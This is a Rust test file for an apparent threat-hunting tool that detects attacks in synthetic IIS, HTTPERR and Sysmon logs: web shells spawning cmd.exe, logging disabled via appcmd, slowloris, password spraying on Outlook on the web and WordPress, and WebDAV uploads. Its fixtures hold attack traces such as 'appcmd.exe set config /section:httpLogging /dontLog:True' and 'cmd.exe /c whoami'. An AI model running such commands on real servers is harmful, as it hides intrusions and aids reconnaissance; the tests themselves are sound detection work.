/// was the only one read), and appcmd's process start, whose silence's
/// line begins with the command line, not the process's metadata.
#[test]
fn logging_switched_off_is_read_as_windows_writes_it() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let log = silent_from_10_40(tmp.path());
    let config = event_xml(
        40,
        "Microsoft-Windows-IIS-Configuration",
        29,
        "Microsoft-IIS-Configuration/Operational",
        &[
            ("ConfigPath", "MACHINE/WEBROOT/APPHOST"),
            ("Configuration", "/system.webServer/httpLogging/@dontLog"),
            ("NewValue", "true"),
        ],
    );
    let appcmd = event_xml(
        40,
        "Microsoft-Windows-Sysmon",
        1,
        "Microsoft-Windows-Sysmon/Operational",
        &[
            ("RuleName", "-"),
            ("UtcTime", "2025-11-24 10:40:00.100"),
            ("ProcessGuid", "{365abb72-0000-0000-0000-001000000000}"),
            ("ProcessId", "9012"),
            ("Image", "C:\\Windows\\System32\\inetsrv\\appcmd.exe"),
            ("FileVersion", "10.0.17763.1"),
            ("Description", "Application Server Command Line Admin Tool"),
            ("Product", "Internet Information Services"),
            ("Company", "Microsoft Corporation"),
            ("OriginalFileName", "appcmd.exe"),
            ("CommandLine", "appcmd.exe set config /section:httpLogging /dontLog:True"),
        ],
    );
    for (name, event, said) in [
        ("IIS-Configuration.xml", config, "Configuration=/system.webServer/httpLogging/@dontLog"),
        ("Sysmon.xml", appcmd, "CommandLine=appcmd.exe set config /section:httpLogging /dontLog:True"),
    ] {
        let events = tmp.path().join(name);
        std::fs::write(&events, format!("<Events>{event}</Events>")).expect("writes");
        let report = run(&[log.clone(), events.clone()], bundled());
        let silent = report
            .detections
            .iter()
            .find(|d| d.rule.meta.title == "Access Log Silent After Logging Is Switched Off")
            .unwrap_or_else(|| panic!("{name}: {:?}", hits(&report)));
        let after = silent.evidence.summary.split_once(" after: ").map_or("", |(_, a)| a);
        assert!(after.split_once(": ").is_some_and(|(_, rest)| rest.starts_with(said)), "{name}: {after}");
        std::fs::remove_file(events).expect("removes");
    }
}

/// A Sysmon event on WEB01 at `time` (`HH:MM:SS` on 2025-11-24).
fn sysmon_at(record: u32, id: u16, time: &str, data: &[(&str, &str)]) -> String {
    let data: String =
        data.iter().map(|(name, value)| format!("<Data Name=\"{name}\">{value}</Data>")).collect();
    format!(
        "<Event><System><Provider Name=\"Microsoft-Windows-Sysmon\"/><EventID>{id}</EventID>\
         <TimeCreated SystemTime=\"2025-11-24T{time}.500Z\"/><EventRecordID>{record}</EventRecordID>\
         <Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WEB01</Computer></System>\
         <EventData>{data}</EventData></Event>"
    )
}

/// The native chains of a script only ever POSTed to and the worker's
/// shell over `rows` (`time method stem client`) and `events`: (rule id,
/// time, line, client, target file).
fn posted_chains(rows: &[&str], events: &[String]) -> Vec<(String, String, Option<u64>, String, String)> {
    let dir = tempfile::tempdir().expect("tempdir");
    // HTTP.sys names the pool of the shell's folder: `ShopPool`.
    let (web, logs) =
        server_with_queue_errors(dir.path(), &[("2025-11-24 09:00:00", "/uploads/cv/a.js", 1, "ShopPool")]);
    let mut log =
        String::from("#Fields: date time s-sitename s-computername cs-method cs-uri-stem c-ip sc-status\n");
    for row in rows {
        let [time, method, stem, client] = row.split(' ').collect::<Vec<_>>()[..] else { panic!("{row}") };
        log.push_str(&format!("2025-11-24 {time} W3SVC1 WEB01 {method} {stem} {client} 200\n"));
    }
    std::fs::write(logs.join("u_ex251124.log"), log).expect("writes");
    std::fs::write(web.join("sysmon.xml"), format!("<Events>{}</Events>", events.concat())).expect("writes");
    let report = run(&[web], bundled());
    let value = |d: &faultline_analyzer::hunting::Detection, f: &str| {
        d.matched.iter().find(|(n, _)| n == f).map(|(_, v)| v.clone()).unwrap_or_default()
    };
    report
        .detections
        .iter()
        .filter(|d| d.rule.meta.origin.ends_with("-script-runs-commands"))
        .map(|d| {
            (
                d.rule.meta.id.clone(),
                d.time.to_prose(),
                d.evidence.line,
                value(d, "c-ip"),
                value(d, "TargetFilename"),
            )
        })
        .collect()
}

/// A page uploaded through the application's upload handler (the worker
/// writes it: Sysmon 11), then only ever POSTed to, each POST answered as
/// the worker starts a shell: one critical chain naming the client, the
/// command and the file, whatever name the shell was given. Without the
/// write it is high; a shell started minutes from any POST to it, a
/// script the site also GETs, or another pool's worker is no chain.
#[test]
fn an_uploaded_script_posted_to_as_the_worker_starts_shells_is_one_chain() {
    let shell = |record: u32, time: &str, pool: &str| {
        sysmon_at(
            record,
            1,
            time,
            &[
                ("Image", "C:\\Windows\\System32\\cmd.exe"),
                ("CommandLine", "cmd.exe /c whoami"),
                ("ParentImage", "c:\\windows\\system32\\inetsrv\\w3wp.exe"),
                ("ParentCommandLine", &format!("c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"{pool}\"")),
                ("User", &format!("IIS APPPOOL\\{pool}")),
            ],
        )
    };
    let write = sysmon_at(
        1,
        11,
        "10:00:29",
        &[
            ("Image", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
            ("TargetFilename", "C:\\inetpub\\wwwroot\\uploads\\cv\\r8841.aspx"),
        ],
    );
    let rows = [
        "10:00:30 POST /careers/Upload.ashx 198.51.100.20",
        "10:01:01 POST /uploads/cv/r8841.aspx 203.0.113.5",
        "10:02:00 POST /uploads/cv/r8841.aspx 203.0.113.5",
    ];
    let uploaded = posted_chains(&rows, &[write.clone(), shell(2, "10:01:00", "ShopPool")]);
    assert_eq!(
        uploaded,
        [(
            "faultline-native-uploaded-script-runs-commands".to_string(),
            "2025-11-24 10:01:01 UTC".to_string(),
            Some(3),
            "203.0.113.5".to_string(),
            "C:\\inetpub\\wwwroot\\uploads\\cv\\r8841.aspx".to_string()
        )]
    );
    let posted = posted_chains(&rows, &[shell(2, "10:01:59", "ShopPool")]);
    assert_eq!(posted.len(), 1, "{posted:?}");
    assert_eq!(
        (posted[0].0.as_str(), posted[0].2),
        ("faultline-native-posted-script-runs-commands", Some(4))
    );
    assert_eq!(posted_chains(&rows, &[write.clone(), shell(2, "09:57:00", "ShopPool")]), []);
    let got = ["09:59:00 GET /uploads/cv/r8841.aspx 192.0.2.1", rows[1], rows[2]];
    assert_eq!(posted_chains(&got, &[write.clone(), shell(2, "10:01:00", "ShopPool")]), []);
    assert_eq!(posted_chains(&rows, &[write, shell(2, "10:01:00", "ApiPool")]), [], "another pool's worker");
}

/// Connections HTTP.sys dropped for sending or reading too slowly: fifty
/// of one client within ten minutes are a slowloris, one detection naming
/// it; the internet's slow links, a few each from many addresses, and a
/// client's idle keep-alives, which HTTP.sys closes all day, are none.
#[test]
fn a_slowloris_is_one_detection_per_client_and_slow_links_are_none() {
    let dropped = |rows: &[(u32, &str, &str)]| {
        let dir = tempfile::tempdir().expect("tempdir");
        let errors = dir.path().join("WEB41").join("HTTPERR");
        std::fs::create_dir_all(&errors).expect("mkdir");
        let mut text = String::from(
            "#Fields: date time c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid sc-status s-siteid \
             s-reason s-queuename\n",
        );
        for (second, client, reason) in rows {
            text.push_str(&format!(
                "2025-12-20 03:{:02}:{:02} {client} 50000 10.0.6.41 443 HTTP/1.1 GET / - - - {reason} -\n",
                second / 60,
                second % 60
            ));
        }
        std::fs::write(errors.join("httperr1.log"), text).expect("writes");
        let report = run(&[dir.path().to_path_buf()], bundled());
        report.detections.iter().map(|d| (d.rule.meta.title.clone(), d.matched.clone())).collect::<Vec<_>>()
    };
    let slowloris: Vec<(u32, &str, &str)> = (0..60)
        .map(|i| (i * 5, "198.51.100.23", ["Timer_HeaderWait", "Timer_MinBytesPerSecond"][i as usize % 2]))
        .collect();
    assert_eq!(
        dropped(&slowloris),
        [(
            "Slow HTTP Denial Of Service From One Client".to_string(),
            vec![("c-ip".to_string(), "198.51.100.23".to_string())]
        )]
    );
    let clients: Vec<String> = (0..60).map(|i| format!("203.0.113.{i}")).collect();
    let slow_links: Vec<(u32, &str, &str)> =
        (0..60).map(|i| (i * 5, clients[i as usize].as_str(), "Timer_MinBytesPerSecond")).collect();
    assert_eq!(dropped(&slow_links), []);
    let idle: Vec<(u32, &str, &str)> =
        (0..60).map(|i| (i * 5, "198.51.100.23", "Timer_ConnectionIdle")).collect();
    assert_eq!(dropped(&idle), []);
}

/// The detections (title, first line) of a hunt of one W3C log of `rows`
/// (`time method stem query user client status`).
fn hunt_rows(rows: &[String]) -> Vec<(String, Option<u64>)> {
    let dir = tempfile::tempdir().expect("tempdir");
    let logs = dir.path().join("EXCH01").join("W3SVC1");
    std::fs::create_dir_all(&logs).expect("mkdir");
    let mut log =
        String::from("#Fields: date time cs-method cs-uri-stem cs-uri-query cs-username c-ip sc-status\n");
    for row in rows {
        log.push_str(&format!("2025-04-15 {row}\n"));
    }
    std::fs::write(logs.join("u_ex250415.log"), log).expect("writes");
    let report = run(&[dir.path().to_path_buf()], bundled());
    report.detections.iter().map(|d| (d.rule.meta.title.clone(), d.evidence.line)).collect()
}

/// Outlook on the web answers every POST to auth.owa 302 under the name
/// tried and shows a failure its login page again with `reason=2`: a
/// spray over 35 accounts, paced under the burst threshold, is sustained
/// guessing, and the guess that worked is the account the mailbox then
/// opened as, not the first name tried. WordPress answers a failed login
/// 200: a burst of them is guessing, not a script answering POSTs.
#[test]
fn a_spray_on_outlook_on_the_web_and_guessing_on_wordpress_are_found() {
    let at = |s: u32| format!("02:{:02}:{:02}", 10 + s / 60, s % 60);
    let mut rows: Vec<String> = Vec::new();
    for i in 0..35 {
        let t = at(i * 20);
        rows.push(format!("{t} POST /owa/auth.owa - corp\\user{i} 194.26.29.113 302"));
        rows.push(format!("{t} GET /owa/auth/logon.aspx url=%2fowa%2f&reason=2 - 194.26.29.113 200"));
    }
    let t = at(35 * 20 + 30);
    rows.push(format!("{t} POST /owa/auth.owa - corp\\m.keller 194.26.29.113 302"));
    rows.push(format!("{t} GET /owa/ - corp\\m.keller 194.26.29.113 200"));
    let found = hunt_rows(&rows);
    let success_line = rows.len() as u64 + 1;
    assert_eq!(
        found,
        [
            ("Sustained Password Guessing Against The Site".to_string(), Some(3)),
            ("Password Guessed On The Site".to_string(), Some(success_line)),
        ]
    );
    // Three users mistyping, each from their own address: nothing.
    let mistyped: Vec<String> = (0..3)
        .flat_map(|i| {
            let t = at(i * 100);
            [
                format!("{t} POST /owa/auth.owa - corp\\user{i} 10.1.0.{i} 302"),
                format!("{t} GET /owa/auth/logon.aspx url=%2fowa%2f&reason=2 - 10.1.0.{i} 200"),
            ]
        })
        .collect();
    assert_eq!(hunt_rows(&mistyped), []);
    let wordpress: Vec<String> =
        (0..25).map(|i| format!("{} POST /wp-login.php - - 45.9.148.10 200", at(i * 6))).collect();
    assert_eq!(hunt_rows(&wordpress), [("Password Guessing Against The Site".to_string(), Some(2))]);
}

/// A text file PUT over WebDAV and moved to a page's name (the log shows
/// only its first name), then the worker starting a shell within minutes:
/// one critical chain. A shell ten minutes later, or before the write, is
/// none.
#[test]
fn a_file_written_through_webdav_then_the_workers_shell_is_a_chain() {
    let chained = |shell_at: &str| {
        let dir = tempfile::tempdir().expect("tempdir");
        let web = dir.path().join("WEB01");
        std::fs::create_dir_all(&web).expect("mkdir");
        std::fs::write(
            web.join("u_ex250204.log"),
            "#Fields: date time s-sitename s-computername cs-method cs-uri-stem c-ip sc-status\n\
             2025-11-24 10:02:14 W3SVC2 WEB01 PUT /uploads/readme.txt 185.220.101.34 201\n\
             2025-11-24 10:02:16 W3SVC2 WEB01 MOVE /uploads/readme.txt 185.220.101.34 201\n",
        )
        .expect("writes");
        let shell = sysmon_at(
            1,
            1,
            shell_at,
            &[
                ("Image", "C:\\Windows\\System32\\cmd.exe"),
                ("CommandLine", "cmd.exe /c whoami /all"),
                ("ParentImage", "c:\\windows\\system32\\inetsrv\\w3wp.exe"),
            ],
        );
        std::fs::write(web.join("sysmon.xml"), format!("<Events>{shell}</Events>")).expect("writes");
        let report = run(&[web], bundled());
        report
            .detections
            .iter()
            .filter(|d| {
                d.rule.meta.level == Level::Critical || d.rule.meta.title == "File Written Through WebDAV"
            })
            .map(|d| (d.rule.meta.title.clone(), d.evidence.line))
            .collect::<Vec<_>>()
    };
    assert_eq!(
        chained("10:02:31"),
        [("File Written Through WebDAV, Then The Worker Runs Commands".to_string(), Some(2))]
    );
    assert_eq!(chained("10:12:31"), []);
    assert_eq!(chained("10:01:31"), []);
}
